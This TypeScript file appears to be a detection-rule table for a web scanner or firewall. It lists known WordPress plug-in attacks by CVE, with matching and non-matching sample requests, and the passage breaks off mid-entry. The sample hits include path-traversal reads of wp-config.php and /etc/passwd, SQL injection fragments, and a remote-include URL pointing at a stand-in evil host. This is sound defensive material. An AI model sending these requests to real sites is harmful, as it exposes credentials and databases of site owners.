import type { KnownRequest } from '../../known.ts'

/** WordPress: plug-ins and themes. */
export default [
  {
    name: 'wp-revslider-show',
    product: 'WordPress Slider Revolution',
    does: 'read',
    cve: ['2014-9734'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=revslider_show_image', 'img~path'],
    hit: 'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?action=revslider_show_image&img=../wp-config.php',
      'GET /wp-admin/admin-ajax.php?action=list&img=../wp-config.php',
      'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-revslider-ajax',
    product: 'WordPress Slider Revolution',
    does: 'upload',
    cve: ['2014-9735'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=revslider_ajax_action'],
    hit: 'POST /wp-admin/admin-ajax.php?action=revslider_ajax_action',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=revslider_ajax_action',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_ajax_action' },
    ],
  },
  {
    name: 'wp-revslider-css',
    product: 'WordPress Slider Revolution',
    does: 'upload',
    cve: ['2014-9735'],
    path: '/wp-content/plugins/revslider/temp/update_extract/',
    hit: 'GET /wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
    misses: [
      'GET /search?q=/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
      },
    ],
  },
  {
    name: 'wp-showbiz',
    product: 'WordPress Showbiz Pro',
    does: 'upload',
    cve: ['2014-9735'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=showbiz_ajax_action'],
    hit: 'POST /wp-admin/admin-ajax.php?action=showbiz_ajax_action',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=showbiz_ajax_action',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=showbiz_ajax_action' },
    ],
  },
  {
    name: 'wp-file-manager',
    product: 'WordPress File Manager',
    does: 'upload',
    cve: ['2020-25213'],
    path: '/wp-file-manager/lib/php/connector*',
    severity: 'critical',
    hit: 'POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
    misses: [
      'GET /search?q=/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      },
    ],
  },
  {
    name: 'wp-file-manager-files',
    product: 'WordPress File Manager',
    does: 'upload',
    cve: ['2020-25213'],
    path: '/wp-file-manager/lib/files/',
    hit: 'GET /wp-content/plugins/wp-file-manager/lib/files/x.php',
    misses: [
      'GET /search?q=/wp-content/plugins/wp-file-manager/lib/files/x.php',
      { referrer: 'https://www.example.com/wp-content/plugins/wp-file-manager/lib/files/x.php' },
    ],
  },
  {
    name: 'wp-automatic-csv',
    product: 'WordPress Automatic',
    does: 'sql',
    cve: ['2024-27956'],
    path: '/wp-automatic/inc/csv.php',
    severity: 'critical',
    hit: 'POST /wp-content/plugins/wp-automatic/inc/csv.php',
    misses: [
      'POST /wp-content/plugins/wp-automatic/inc/csv.php-guide',
      'GET /search?q=/wp-content/plugins/wp-automatic/inc/csv.php',
    ],
  },
  {
    name: 'wp-automatic-download',
    product: 'WordPress Automatic',
    does: 'read',
    cve: ['2024-27954'],
    path: '/',
    args: ['wp_automatic=download', 'link~path'],
    severity: 'critical',
    hit: 'GET /?p=3232&wp_automatic=download&link=file:///etc/passwd',
    misses: [
      'GET /?p=3232&wp_automatic=download&link=list',
      'GET /?p=3232&wp_automatic=list&link=file:///etc/passwd',
      { referrer: 'https://www.example.com/?p=3232&wp_automatic=download&link=file:///etc/passwd' },
    ],
  },
  {
    name: 'wp-bricks-render',
    product: 'WordPress Bricks Builder',
    does: 'code',
    cve: ['2024-25600'],
    path: '/wp-json/bricks/v1/render_element',
    severity: 'critical',
    hit: 'POST /wp-json/bricks/v1/render_element',
    misses: [
      'POST /wp-json/bricks/v1/render_element-guide',
      'GET /search?q=/wp-json/bricks/v1/render_element',
    ],
  },
  {
    name: 'wp-bricks-route',
    product: 'WordPress Bricks Builder',
    does: 'code',
    cve: ['2024-25600'],
    path: '/',
    args: ['rest_route=/bricks/v1/render_element'],
    severity: 'critical',
    hit: 'POST /?rest_route=/bricks/v1/render_element',
    misses: [
      'POST /?rest_route=list',
      'POST -guide?rest_route=/bricks/v1/render_element',
      { referrer: 'https://www.example.com/?rest_route=/bricks/v1/render_element' },
    ],
  },
  {
    name: 'wp-duplicator-download',
    product: 'WordPress Duplicator',
    does: 'read',
    cve: ['2020-11738'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=duplicator_download', 'file'],
    hit: 'GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?action=duplicator_download&file=../../wp-config.php',
      'GET /wp-admin/admin-ajax.php?action=list&file=../../wp-config.php',
      'GET /wp-admin/admin-ajax.php?action=duplicator_download',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-duplicator-installer',
    product: 'WordPress Duplicator',
    does: 'code',
    cve: ['2018-17207'],
    path: '/installer-backup.php',
    hit: 'GET /installer-backup.php',
    misses: ['GET /installer-backup.php-guide', 'GET /search?q=/installer-backup.php'],
  },
  {
    name: 'wp-backup-heart',
    product: 'WordPress Backup Migration',
    does: 'code',
    cve: ['2023-6553'],
    path: '/backup-backup/includes/backup-heart.php',
    severity: 'critical',
    hit: 'POST /wp-content/plugins/backup-backup/includes/backup-heart.php',
    misses: [
      'POST /wp-content/plugins/backup-backup/includes/backup-heart.php-guide',
      'GET /search?q=/wp-content/plugins/backup-backup/includes/backup-heart.php',
    ],
  },
  {
    name: 'wp-simple-file-list',
    product: 'WordPress Simple File List',
    does: 'upload',
    cve: ['2020-36847'],
    path: '/simple-file-list/ee-*',
    hit: 'POST /wp-content/plugins/simple-file-list/ee-upload-engine.php',
    misses: [
      'GET /search?q=/wp-content/plugins/simple-file-list/ee-upload-engine.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/simple-file-list/ee-upload-engine.php',
      },
    ],
  },
  {
    name: 'wp-wpdiscuz',
    product: 'WordPress wpDiscuz',
    does: 'upload',
    cve: ['2020-24186'],
    path: '/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
    hit: 'POST /wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
    misses: [
      'POST /wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php-guide',
      'GET /search?q=/wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
    ],
  },
  {
    name: 'wp-mail-masta',
    product: 'WordPress Mail Masta',
    does: 'include',
    cve: ['2016-10956'],
    path: '/mail-masta/inc/',
    args: ['pl'],
    hit: 'GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd',
    misses: [
      'GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?my_pl=/etc/passwd',
      'GET /search?pl=/etc/passwd',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd',
      },
    ],
  },
  {
    name: 'wp-ebook-download',
    product: 'WordPress eBook Download',
    does: 'read',
    cve: ['2016-10924'],
    path: '/ebook-download/filedownload.php',
    args: ['ebookdownloadurl'],
    hit: 'GET /wp-content/plugins/ebook-download/filedownload.php?ebookdownloadurl=../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/ebook-download/filedownload.php-guide?ebookdownloadurl=../../../wp-config.php',
      'GET /wp-content/plugins/ebook-download/filedownload.php?my_ebookdownloadurl=../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/ebook-download/filedownload.php?ebookdownloadurl=../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-simple-backup',
    product: 'WordPress Simple Backup',
    does: 'read',
    cve: ['2015-9464'],
    path: '/wp-admin/tools.php',
    args: ['page=backup_manager', 'download_backup_file'],
    hit: 'GET /wp-admin/tools.php?page=backup_manager&download_backup_file=../wp-config.php',
    misses: [
      'GET /wp-admin/tools.php-guide?page=backup_manager&download_backup_file=../wp-config.php',
      'GET /wp-admin/tools.php?page=list&download_backup_file=../wp-config.php',
      'GET /wp-admin/tools.php?page=backup_manager',
      {
        referrer:
          'https://www.example.com/wp-admin/tools.php?page=backup_manager&download_backup_file=../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-history-collection',
    product: 'WordPress History Collection',
    does: 'read',
    ref: 'https://www.exploit-db.com/exploits/37254',
    path: '/history-collection/download.php',
    args: ['var'],
    hit: 'GET /wp-content/plugins/history-collection/download.php?var=../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/history-collection/download.php-guide?var=../../../wp-config.php',
      'GET /wp-content/plugins/history-collection/download.php?my_var=../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/history-collection/download.php?var=../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-hb-audio',
    product: 'WordPress HB Audio Gallery Lite',
    does: 'read',
    cve: ['2015-9480'],
    path: '/hb-audio-gallery-lite/gallery/audio-download.php',
    args: ['file_path'],
    hit: 'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?file_path=../../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php-guide?file_path=../../../../wp-config.php',
      'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?my_file_path=../../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?file_path=../../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-google-mp3',
    product: 'WordPress CodeArt Google MP3 Player',
    does: 'read',
    ref: 'https://www.exploit-db.com/exploits/35460',
    path: '/google-mp3-audio-player/direct_download.php',
    args: ['file'],
    hit: 'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php?file=../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php-guide?file=../../../wp-config.php',
      'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php?my_file=../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/google-mp3-audio-player/direct_download.php?file=../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-site-editor',
    product: 'WordPress Site Editor',
    does: 'read',
    cve: ['2018-7422'],
    path: '/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php',
    args: ['ajax_path'],
    hit: 'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
    misses: [
      'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php-guide?ajax_path=/etc/passwd',
      'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?my_ajax_path=/etc/passwd',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
      },
    ],
  },
  {
    name: 'wp-localize-post',
    product: 'WordPress Localize My Post',
    does: 'read',
    cve: ['2018-16299'],
    path: '/localize-my-post/ajax/include.php',
    args: ['file'],
    hit: 'GET /wp-content/plugins/localize-my-post/ajax/include.php?file=../../../../etc/passwd',
    misses: [
      'GET /wp-content/plugins/localize-my-post/ajax/include.php-guide?file=../../../../etc/passwd',
      'GET /wp-content/plugins/localize-my-post/ajax/include.php?my_file=../../../../etc/passwd',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/localize-my-post/ajax/include.php?file=../../../../etc/passwd',
      },
    ],
  },
  {
    name: 'wp-with-spritz',
    product: 'WordPress WP with Spritz',
    does: 'include',
    ref: 'https://www.exploit-db.com/exploits/44544',
    path: '/wp-with-spritz/wp.spritz.content.filter.php',
    args: ['url'],
    hit: 'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=/../../../..//etc/passwd',
    misses: [
      'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php-guide?url=/../../../..//etc/passwd',
      'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?my_url=/../../../..//etc/passwd',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=/../../../..//etc/passwd',
      },
    ],
  },
  {
    name: 'wp-gracemedia',
    product: 'WordPress GraceMedia',
    does: 'read',
    cve: ['2019-9618'],
    path: '/gracemedia-media-player/templates/files/ajax_controller.php',
    args: ['cfg'],
    hit: 'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds&cfg=../../../../../etc/passwd',
    misses: [
      'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php-guide?ajaxAction=getIds&cfg=../../../../../etc/passwd',
      'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds&cfg=../../../../../etc/passwd',
      },
    ],
  },
  {
    name: 'wp-cherry-plugin',
    product: 'WordPress Cherry',
    does: 'upload',
    ref: 'https://github.com/CherryFramework/cherry-plugin',
    path: '/cherry-plugin/admin/import-export/',
    hit: 'POST /wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
    misses: [
      'GET /search?q=/wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
      },
    ],
  },
  {
    name: 'wp-gravityforms-upload',
    product: 'WordPress Gravity Forms',
    does: 'upload',
    ref: 'https://www.exploit-db.com/exploits/44056',
    path: '/',
    args: ['gf_page=upload'],
    hit: 'POST /?gf_page=upload',
    misses: [
      'POST /?gf_page=list',
      'POST -guide?gf_page=upload',
      { referrer: 'https://www.example.com/?gf_page=upload' },
    ],
  },
  {
    name: 'wp-reflex-gallery',
    product: 'WordPress Reflex Gallery',
    does: 'upload',
    cve: ['2015-4133'],
    path: '/reflex-gallery/admin/scripts/FileUploader/php.php',
    hit: 'POST /wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php?Year=2024&Month=03',
    misses: [
      'POST /wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php-guide?Year=2024&Month=03',
      'GET /search?q=/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php',
    ],
  },
  {
    name: 'wp-symposium',
    product: 'WordPress WP Symposium',
    does: 'upload',
    cve: ['2014-10021'],
    path: '/wp-symposium/server/php/',
    hit: 'POST /wp-content/plugins/wp-symposium/server/php/index.php',
    misses: [
      'GET /search?q=/wp-content/plugins/wp-symposium/server/php/index.php',
      { referrer: 'https://www.example.com/wp-content/plugins/wp-symposium/server/php/index.php' },
    ],
  },
  {
    name: 'wp-symposium-sql',
    product: 'WordPress WP Symposium',
    does: 'sql',
    cve: ['2015-6522'],
    path: '/wp-symposium/get_album_item.php',
    args: ['size'],
    hit: 'GET /wp-content/plugins/wp-symposium/get_album_item.php?size=version%28%29%20;%20--',
    misses: [
      'GET /wp-content/plugins/wp-symposium/get_album_item.php-guide?size=version%28%29%20;%20--',
      'GET /wp-content/plugins/wp-symposium/get_album_item.php?my_size=version%28%29%20;%20--',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/wp-symposium/get_album_item.php?size=version%28%29%20;%20--',
      },
    ],
  },
  {
    name: 'wp-mailpoet',
    product: 'WordPress MailPoet Newsletters',
    does: 'upload',
    cve: ['2014-4725'],
    path: '/wp-admin/admin-post.php',
    args: ['page=wysija_campaigns', 'action=themes'],
    hit: 'POST /wp-admin/admin-post.php?page=wysija_campaigns&action=themes',
    misses: [
      'POST /wp-admin/admin-post.php-guide?page=wysija_campaigns&action=themes',
      'POST /wp-admin/admin-post.php?page=list&action=themes',
      'POST /wp-admin/admin-post.php?page=wysija_campaigns&action=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-post.php?page=wysija_campaigns&action=themes',
      },
    ],
  },
  {
    name: 'wp-ait-csv',
    product: 'WordPress AIT CSV Import',
    does: 'upload',
    ref: 'https://wpscan.com/vulnerability/10471/',
    path: '/ait-csv-import-export/admin/upload-handler.php',
    hit: 'POST /wp-content/plugins/ait-csv-import-export/admin/upload-handler.php',
    misses: [
      'POST /wp-content/plugins/ait-csv-import-export/admin/upload-handler.php-guide',
      'GET /search?q=/wp-content/plugins/ait-csv-import-export/admin/upload-handler.php',
    ],
  },
  {
    name: 'wp-kaswara',
    product: 'WordPress Kaswara',
    does: 'upload',
    cve: ['2021-24284'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=uploadFontIcon'],
    severity: 'critical',
    hit: 'POST /wp-admin/admin-ajax.php?action=uploadFontIcon',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=uploadFontIcon',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=uploadFontIcon' },
    ],
  },
  {
    name: 'wp-royal-elementor',
    product: 'WordPress Royal Elementor Addons',
    does: 'upload',
    cve: ['2023-5360'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=wpr_addons_upload_file'],
    severity: 'critical',
    hit: 'POST /wp-admin/admin-ajax.php?action=wpr_addons_upload_file',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=wpr_addons_upload_file',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=wpr_addons_upload_file' },
    ],
  },
  {
    name: 'wp-litespeed-hash',
    product: 'WordPress LiteSpeed Cache',
    does: 'leak',
    cve: ['2024-44000'],
    path: '/wp-content/debug.log',
    severity: 'medium',
    hit: 'GET /wp-content/debug.log',
    misses: ['GET /wp-content/debug.log-guide', 'GET /search?q=/wp-content/debug.log'],
  },
  {
    name: 'wp-really-simple-ssl',
    product: 'WordPress Really Simple Security',
    does: 'bypass',
    cve: ['2024-10924'],
    path: '/reallysimplessl/v1/two_fa/skip_onboarding',
    severity: 'critical',
    hit: 'POST /wp-json/reallysimplessl/v1/two_fa/skip_onboarding',
    misses: [
      'POST /wp-json/reallysimplessl/v1/two_fa/skip_onboarding-guide',
      'GET /search?q=/wp-json/reallysimplessl/v1/two_fa/skip_onboarding',
    ],
  },
  {
    name: 'wp-ottokit',
    product: 'WordPress OttoKit (SureTriggers)',
    does: 'account',
    cve: ['2025-3102', '2025-27007'],
    path: '/sure-triggers/v1/',
    severity: 'critical',
    hit: 'POST /wp-json/sure-triggers/v1/automation/action',
    misses: [
      'GET /search?q=/wp-json/sure-triggers/v1/automation/action',
      { referrer: 'https://www.example.com/wp-json/sure-triggers/v1/automation/action' },
    ],
  },
  {
    name: 'wp-ottokit-route',
    product: 'WordPress OttoKit (SureTriggers)',
    does: 'account',
    cve: ['2025-3102', '2025-27007'],
    path: '/',
    args: ['rest_route=/wp-json/sure-triggers/'],
    severity: 'critical',
    hit: 'POST /?rest_route=/wp-json/sure-triggers/v1/automation/action',
    misses: [
      'POST /?rest_route=list',
      'POST -guide?rest_route=/wp-json/sure-triggers/v1/automation/action',
      {
        referrer: 'https://www.example.com/?rest_route=/wp-json/sure-triggers/v1/automation/action',
      },
    ],
  },
  {
    name: 'wp-post-smtp',
    product: 'WordPress Post SMTP',
    does: 'account',
    cve: ['2023-6875'],
    path: '/post-smtp/v1/',
    severity: 'high',
    hit: 'POST /wp-json/post-smtp/v1/connect-app',
    misses: [
      'GET /search?q=/wp-json/post-smtp/v1/connect-app',
      { referrer: 'https://www.example.com/wp-json/post-smtp/v1/connect-app' },
    ],
  },
  {
    name: 'wp-hunk-companion',
    product: 'WordPress Hunk Companion',
    does: 'upload',
    cve: ['2024-11972', '2024-9707'],
    path: '/hc/v1/themehunk-import',
    severity: 'critical',
    hit: 'POST /wp-json/hc/v1/themehunk-import',
    misses: [
      'POST /wp-json/hc/v1/themehunk-import-guide',
      'GET /search?q=/wp-json/hc/v1/themehunk-import',
    ],
  },
  {
    name: 'wp-gutenkit',
    product: 'WordPress GutenKit',
    does: 'upload',
    cve: ['2024-9234'],
    path: '/gutenkit/v1/install-active-plugin',
    severity: 'critical',
    hit: 'POST /wp-json/gutenkit/v1/install-active-plugin',
    misses: [
      'POST /wp-json/gutenkit/v1/install-active-plugin-guide',
      'GET /search?q=/wp-json/gutenkit/v1/install-active-plugin',
    ],
  },
  {
    name: 'wp-email-subscribers',
    product: 'WordPress Email Subscribers (Icegram)',
    does: 'sql',
    cve: ['2024-2876', '2019-20361'],
    path: '/wp-admin/admin-post.php',
    args: ['page=es_subscribers'],
    hit: 'POST /wp-admin/admin-post.php?page=es_subscribers&is_ajax=1',
    misses: [
      'POST /wp-admin/admin-post.php-guide?page=es_subscribers&is_ajax=1',
      'POST /wp-admin/admin-post.php?page=list&is_ajax=1',
      { referrer: 'https://www.example.com/wp-admin/admin-post.php?page=es_subscribers&is_ajax=1' },
    ],
  },
  {
    name: 'wp-tatsu',
    product: 'WordPress Tatsu Builder',
    does: 'upload',
    cve: ['2021-25094'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=add_custom_font'],
    severity: 'critical',
    hit: 'POST /wp-admin/admin-ajax.php?action=add_custom_font',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=add_custom_font',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=add_custom_font' },
    ],
  },
  {
    name: 'wp-social-warfare',
    product: 'WordPress Social Warfare',
    does: 'code',
    cve: ['2019-9978'],
    path: '/wp-admin/admin-post.php',
    args: ['swp_debug', 'swp_url'],
    severity: 'critical',
    hit: 'GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://evil.example/p.txt',
    misses: [
      'GET /wp-admin/admin-post.php-guide?swp_debug=load_options&swp_url=http://evil.example/p.txt',
      'GET /wp-admin/admin-post.php?swp_url=http://evil.example/p.txt',
      'GET /wp-admin/admin-post.php?swp_debug=load_options',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://evil.example/p.txt',
      },
    ],
  },
  {
    name: 'wp-yuzo',
    product: 'WordPress Yuzo Related Posts',
    does: 'xss',
    cve: ['2019-11869'],
    path: '/wp-admin/options-general.php',
    args: ['page=yuzo-related-post'],
    hit: 'POST /wp-admin/options-general.php?page=yuzo-related-post',
    misses: [
      'POST /wp-admin/options-general.php-guide?page=yuzo-related-post',
      'POST /wp-admin/options-general.php?page=list',
      { referrer: 'https://www.example.com/wp-admin/options-general.php?page=yuzo-related-post' },
    ],
  },
  {
    name: 'wp-total-donations',
    product: 'WordPress Total Donations',
    does: 'account',
    cve: ['2019-6703'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=migla_'],
    hit: 'POST /wp-admin/admin-ajax.php?action=migla_getme',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=migla_getme',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=migla_getme' },
    ],
  },
  {
    name: 'wp-wpgdpr',
    product: 'WordPress WP GDPR Compliance',
    does: 'account',
    cve: ['2018-19207'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=wpgdprc_process_action'],
    hit: 'POST /wp-admin/admin-ajax.php?action=wpgdprc_process_action',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=wpgdprc_process_action',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=wpgdprc_process_action' },
    ],
  },
  {
    name: 'wp-theme-onetone',
    product: 'WordPress theme options',
    does: 'read',
    cve: ['2019-17230', '2019-17231'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=onetone_options_import'],
    hit: 'POST /wp-admin/admin-ajax.php?action=onetone_options_import',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=onetone_options_import',
      'POST /wp-admin/admin-ajax.php?action=list',
      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=onetone_options_import' },
    ],
  },
  {
    name: 'wp-epsilon',
    product: 'WordPress Epsilon themes',
    does: 'code',
    cve: ['2020-36708'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=epsilon_framework_ajax_action'],
    hit: 'POST /wp-admin/admin-ajax.php?action=epsilon_framework_ajax_action',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=epsilon_framework_ajax_action',
      'POST /wp-admin/admin-ajax.php?action=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=epsilon_framework_ajax_action',
      },
    ],
  },
  {
    name: 'wp-adaptive-images',
    product: 'WordPress Adaptive Images',
    does: 'read',
    cve: ['2019-14205'],
    path: '/adaptive-images/adaptive-images-script.php',
    args: ['adaptive-images-settings[source_file]'],
    hit: 'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php?adaptive-images-settings[source_file]=../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php-guide?adaptive-images-settings[source_file]=../../../wp-config.php',
      'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php?my_adaptive-images-settings[source_file]=../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/adaptive-images/adaptive-images-script.php?adaptive-images-settings[source_file]=../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-rest-google-maps',
    product: 'WordPress WP Google Maps',
    does: 'sql',
    cve: ['2019-10692'],
    path: '/',
    args: ['rest_route=/wpgmza/v1/markers', 'fields'],
    hit: 'GET /?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=*+from+wp_users+--+-',
    misses: [
      'GET /?rest_route=list&filter=%7b%7d&fields=*+from+wp_users+--+-',
      'GET /?rest_route=/wpgmza/v1/markers&filter=%7b%7d&my_fields=*+from+wp_users+--+-',
      {
        referrer:
          'https://www.example.com/?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=*+from+wp_users+--+-',
      },
    ],
  },
  {
    name: 'wp-learnpress',
    product: 'WordPress LearnPress',
    does: 'sql',
    cve: ['2024-8522'],
    path: '/wp-json/lp/v1/courses/archive-course',
    args: ['c_only_fields'],
    hit: 'GET /wp-json/lp/v1/courses/archive-course?c_only_fields=x',
    misses: [
      'GET /wp-json/lp/v1/courses/archive-course-guide?c_only_fields=x',
      'GET /wp-json/lp/v1/courses/archive-course?my_c_only_fields=x',
      { referrer: 'https://www.example.com/wp-json/lp/v1/courses/archive-course?c_only_fields=x' },
    ],
  },
  {
    name: 'wp-depicter',
    product: 'WordPress Depicter Slider',
    does: 'sql',
    cve: ['2025-2011'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=depicter-lead-index', 's~quote'],
    hit: 'GET /wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
      'GET /wp-admin/admin-ajax.php?s=list&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
      'GET /wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
      },
    ],
  },
  {
    name: 'wp-paid-memberships',
    product: 'WordPress Paid Memberships Pro',
    does: 'sql',
    cve: ['2023-23488'],
    path: '/',
    args: ['rest_route=/pmpro/v1/order', 'code'],
    hit: 'GET /?rest_route=/pmpro/v1/order&code=a%27%20OR',
    misses: [
      'GET /?rest_route=list&code=a%27%20OR',
      'GET /?rest_route=/pmpro/v1/order&my_code=a%27%20OR',
      { referrer: 'https://www.example.com/?rest_route=/pmpro/v1/order&code=a%27%20OR' },
    ],
  },
  {
    name: 'wp-edd-sql',
    product: 'WordPress Easy Digital Downloads',
    does: 'sql',
    cve: ['2023-23489'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=edd_download_search', 's~quote'],
    hit: "GET /wp-admin/admin-ajax.php?action=edd_download_search&s=1'+AND+(SELECT",
    misses: [
      "GET /wp-admin/admin-ajax.php-guide?action=edd_download_search&s=1'+AND+(SELECT",
      "GET /wp-admin/admin-ajax.php?action=list&s=1'+AND+(SELECT",
      'GET /wp-admin/admin-ajax.php?action=edd_download_search&s=list',
      {
        referrer:
          "https://www.example.com/wp-admin/admin-ajax.php?action=edd_download_search&s=1'+AND+(SELECT",
      },
    ],
  },
  {
    name: 'wp-statistics',
    product: 'WordPress WP Statistics',
    does: 'sql',
    cve: ['2021-24340'],
    path: '/wp-admin/admin.php',
    args: ['page=wps_pages_page', 'ID~quote'],
    hit: 'GET /wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
    misses: [
      'GET /wp-admin/admin.php-guide?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
      'GET /wp-admin/admin.php?ID=list&page=wps_pages_page&type=1',
      'GET /wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=list&type=1',
      {
        referrer:
